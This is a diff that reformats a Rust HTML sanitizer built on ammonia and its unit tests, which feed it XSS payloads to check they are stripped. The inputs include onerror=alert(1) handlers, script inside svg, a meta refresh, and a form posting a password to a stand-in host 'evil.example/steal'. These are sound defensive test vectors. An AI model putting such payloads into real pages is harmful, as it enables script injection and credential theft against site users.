@@ -14,8 +14,8 @@ use ammonia::{Builder, UrlRelative};
 
 /// Elements removed together with everything inside them (their text would be noise or code).
 const DROP_WITH_CONTENT: &[&str] = &[
-    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "noscript", "noembed", "noframes",
-    "template", "svg", "math", "title", "textarea", "select", "xmp", "head",
+    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "noscript",
+    "noembed", "noframes", "template", "svg", "math", "title", "textarea", "select", "xmp", "head",
 ];
 
 /// Elements removed that the default allow-list would keep: images (see module doc), image maps.
@@ -61,7 +61,10 @@ mod tests {
     fn assert_absent(out: &str, needles: &[&str]) {
         let lower = out.to_ascii_lowercase();
         for n in needles {
-            assert!(!lower.contains(&n.to_ascii_lowercase()), "{n:?} survived in {out:?}");
+            assert!(
+                !lower.contains(&n.to_ascii_lowercase()),
+                "{n:?} survived in {out:?}"
+            );
         }
     }
 
@@ -79,8 +82,13 @@ mod tests {
 
     #[test]
     fn removes_event_handlers() {
-        let out = sanitize_html(r#"<p onclick="x()">a</p><b onmouseover=alert(1)>b</b><img src=x onerror=alert(1)>"#);
-        assert_absent(&out, &["onclick", "onmouseover", "onerror", "alert", "<img"]);
+        let out = sanitize_html(
+            r#"<p onclick="x()">a</p><b onmouseover=alert(1)>b</b><img src=x onerror=alert(1)>"#,
+        );
+        assert_absent(
+            &out,
+            &["onclick", "onmouseover", "onerror", "alert", "<img"],
+        );
         assert!(out.contains("<p>a</p>"));
     }
 
@@ -104,8 +112,13 @@ mod tests {
 
     #[test]
     fn good_links_keep_href_and_get_rel_without_target() {
-        let out = sanitize_html(r#"<a href="https://example.com/a?b=1" target="_blank" rel="opener">x</a>"#);
-        assert_eq!(out, r#"<a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow">x</a>"#);
+        let out = sanitize_html(
+            r#"<a href="https://example.com/a?b=1" target="_blank" rel="opener">x</a>"#,
+        );
+        assert_eq!(
+            out,
+            r#"<a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow">x</a>"#
+        );
         let out = sanitize_html(r#"<a href="mailto:ann@corp.example">ann</a>"#);
         assert!(out.contains(r#"href="mailto:ann@corp.example""#), "{out}");
         let out = sanitize_html(r#"<a href="http://example.com/">x</a>"#);
@@ -120,7 +133,10 @@ mod tests {
              <div style=\"color:red\">y</div>",
         );
         assert_absent(&out, &["<style", "style=", "url(", "evil", "background"]);
-        assert!(out.contains("<p>x</p>") && out.contains("<div>y</div>"), "{out}");
+        assert!(
+            out.contains("<p>x</p>") && out.contains("<div>y</div>"),
+            "{out}"
+        );
     }
 
     #[test]
@@ -149,7 +165,9 @@ mod tests {
 
     #[test]
     fn svg_with_script_is_gone() {
-        let out = sanitize_html(r#"<svg><script>alert(1)</script><image href="http://evil.example/s.png"/></svg>ok"#);
+        let out = sanitize_html(
+            r#"<svg><script>alert(1)</script><image href="http://evil.example/s.png"/></svg>ok"#,
+        );
         assert_absent(&out, &["svg", "script", "alert", "evil"]);
         assert_eq!(out, "ok");
     }
@@ -159,7 +177,10 @@ mod tests {
         let out = sanitize_html(
             r#"<html><head><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/"><link rel="stylesheet" href="http://evil.example/s.css"></head><body><p>body</p></body></html>"#,
         );
-        assert_absent(&out, &["<base", "<meta", "<link", "refresh", "evil", "stylesheet"]);
+        assert_absent(
+            &out,
+            &["<base", "<meta", "<link", "refresh", "evil", "stylesheet"],
+        );
         assert!(out.contains("<p>body</p>"), "{out}");
     }
 
@@ -168,7 +189,12 @@ mod tests {
         let out = sanitize_html(
             r#"<form action="http://evil.example/steal"><input name=pw type=password><button formaction="http://evil.example">Go</button></form><iframe src="http://evil.example/"></iframe><object data="http://evil.example/o"></object><embed src="http://evil.example/e">"#,
         );
-        assert_absent(&out, &["<form", "<input", "<button", "<iframe", "<object", "<embed", "evil", "action"]);
+        assert_absent(
+            &out,
+            &[
+                "<form", "<input", "<button", "<iframe", "<object", "<embed", "evil", "action",
+            ],
+        );
     }
 
     #[test]
@@ -187,13 +213,26 @@ mod tests {
         ] {
             let out = sanitize_html(nasty);
             // Escaped text like `&lt;script&gt;` is harmless; live tags and handlers are not.
-            assert_absent(&out, &["<script", "<img", "onerror=", "javascript:", "<style", "<svg", "<math"]);
+            assert_absent(
+                &out,
+                &[
+                    "<script",
+                    "<img",
+                    "onerror=",
+                    "javascript:",
+                    "<style",
+                    "<svg",
+                    "<math",
+                ],
+            );
         }
     }
 
     #[test]
     fn output_is_stable_when_sanitised_twice() {
-        let once = sanitize_html(r#"<p>a <a href="https://x.example" target=_blank>l</a></p><style>x</style>"#);
+        let once = sanitize_html(
+            r#"<p>a <a href="https://x.example" target=_blank>l</a></p><style>x</style>"#,
+        );
         assert_eq!(sanitize_html(&once), once);
     }
 }
